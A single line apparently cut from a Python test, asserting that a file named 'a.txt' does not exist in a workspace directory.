    assert not (ws / "a.txt").exists()
